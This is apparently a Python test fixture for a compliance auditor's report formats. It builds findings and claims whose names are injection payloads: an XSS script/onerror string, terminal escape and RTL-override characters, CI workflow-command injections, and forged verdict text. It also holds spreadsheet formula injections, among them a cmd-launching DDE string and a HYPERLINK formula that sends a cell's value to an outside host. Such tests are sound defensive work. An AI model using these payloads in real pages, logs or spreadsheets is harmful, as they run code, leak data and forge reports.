"""Names as somebody who means harm would give them to a bucket, a role or a tag; for the tests of every format."""

from __future__ import annotations

from collections.abc import Sequence

from auditor.model import Citation, ClaimVerdict, Outcome, Resource
from auditor.notices import FACTS
from auditor.results import EvidenceItem, Finding, Reference, ScopeItem, Waiver
from tests.report_runs import Stored, a_claim, a_finding, a_head, a_test

SCRIPT = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'
ANSI = "\x1b[31mred\x1b[0m\x9b2J\x07"
RTL = "a\u202egnp.exe\u2066"
LINES = "one\r\ntwo\n::error::three\u2028four\u0085five"
NOT_XML = "nul\x00 \x0b \ufffe\uffff \ud800 ]]> <!-- --> <![CDATA["
LONG = "w" * 5000
MARKDOWN = "a|b `c` [d](http://e.example) ![f](http://g.example/x.png) **h** <i>j</i> \\| ~~k~~ $l$ #12 _m_ &amp;"
MENTION = "@octocat ping me@example.com www.n.example https://o.example ##[error]x ::add-mask::y"
COMMANDS = "::set-output name=refuted::0\r::stop-commands::x"
FORGED = f"{'x ' * 40}supported  every-claim  by behaviour"
WIDE = f"{'語' * 34} supported  every-claim  by behaviour"
FORMULAS = (
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "\u00a0=1",
    "\u3000\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    '=HYPERLINK("http://p.example?"&A1,"x")',
    "\n+1",
    "\u22121",
)
NAMES = (SCRIPT, ANSI, RTL, LINES, NOT_XML, LONG, MARKDOWN, MENTION, COMMANDS, FORGED, WIDE, *FORMULAS)
SENT = tuple(name.replace("\ud800", "") for name in NAMES)
"""The same without half of a surrogate pair, which no system can send and no file can hold."""
ACTING = frozenset("\x00\x07\x0b\x1b\x85\x9b\u2028\u202e\u2066")
"""What no format may hold as it is."""


def findings(names: Sequence[str] = NAMES) -> list[Finding]:
    """A finding of each outcome for each name, the name in every place a system or a person can put one."""
    return [
        a_finding(
            100 * number + place,
            outcome,
            target=name,
            resource=Resource(name, name, name, name),
            message=name,
            advice=name,
            evidence=(Citation(f"evidence/{name}.jsonl", (1, 2), f"/{name}"),),
            waiver=Waiver(id=name, approved_by=name, expires=name) if outcome is Outcome.FAIL else None,
        )
        for number, name in enumerate(names)
        for place, outcome in enumerate(Outcome)
    ]


def run(names: Sequence[str] = NAMES) -> Stored:
    """A run in which everything is called as it should not be; or, with other names, as it may be."""
    each = len(names)
    test = a_test("volumes", Outcome.FAIL, passed=each, fail=each, error=each, manual=each)
    claims = [
        a_claim(
            "at-rest" if number == 0 else f"claim-{number}",
            ClaimVerdict.REFUTED if number == 0 else ClaimVerdict.UNPROVEN,
            *([test] if number == 0 else []),
            statement=name,
            interpretation=name,
            owner=name,
            not_tested=(name,),
            reasons=(name,),
            source=Reference(title=name, url=name),
        )
        for number, name in enumerate(names)
    ]
    scope = tuple(ScopeItem(target=name, task=name, reached=False, error=name, incomplete=name) for name in names)
    head = a_head(*claims, organization="".join(names[:5]), scope=scope)
    fragment = {name: [name] for name in names}
    items = (EvidenceItem(f"evidence/{name}.jsonl", 1, dict.fromkeys(FACTS, name)) for name in names)
    return Stored(head, lambda: findings(names), lambda _: fragment, items)
